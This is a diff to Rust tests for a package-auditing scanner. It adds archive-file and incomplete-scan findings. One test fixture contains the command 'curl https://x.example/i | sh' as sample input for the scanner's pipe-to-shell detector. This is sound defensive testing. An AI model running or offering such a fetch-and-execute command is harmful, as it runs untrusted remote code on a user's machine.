@@ -214,6 +214,12 @@ fn executables_are_critical_and_named_other_binaries_medium_media_silent() {
         summary,
         vec![
             (
+                "assets/a.zip".to_string(),
+                "ARCHIVE_FILE",
+                Severity::Medium,
+                Some("ZIP archive")
+            ),
+            (
                 "bin/mac".to_string(),
                 "BINARY_EXECUTABLE",
                 Severity::Critical,
@@ -325,7 +331,7 @@ fn findings_are_capped_per_rule_and_file() {
 }
 
 #[test]
-fn large_files_are_scanned_up_to_the_cap_and_noted() {
+fn large_files_are_scanned_up_to_the_cap_and_reported_incomplete() {
     let mut big = b"curl https://x.example/i | sh\n".to_vec();
     big.resize(
         usize::try_from(skillet_audit::MAX_FILE_BYTES).unwrap() + 10,
@@ -336,12 +342,14 @@ fn large_files_are_scanned_up_to_the_cap_and_noted() {
         ("big.txt", &big),
     ]);
     assert_eq!(only(&report, "PIPE_TO_SHELL").len(), 1);
-    assert!(
-        report
-            .notes
-            .iter()
-            .any(|n| n.message.contains("only the first"))
+    let incomplete = only(&report, "SCAN_INCOMPLETE");
+    assert_eq!(incomplete.len(), 1, "{:#?}", report.findings);
+    assert!(incomplete[0].path.ends_with("big.txt"));
+    assert_eq!(
+        incomplete[0].detail.as_deref(),
+        Some("larger than 1048576 bytes; only the first 1048576 were scanned")
     );
+    assert_eq!(report.notes, Vec::new());
 }
 
 #[cfg(unix)]
@@ -460,9 +468,10 @@ fn every_matcher_kind_is_exercised_by_some_rule() {
             Matcher::Chars(_) => "chars",
             Matcher::Binary(_) => "binary",
             Matcher::Tool { .. } => "tool",
+            Matcher::Incomplete => "incomplete",
         })
         .collect();
-    assert_eq!(kinds.len(), 7);
+    assert_eq!(kinds.len(), 8);
 }
 
 #[cfg(unix)]
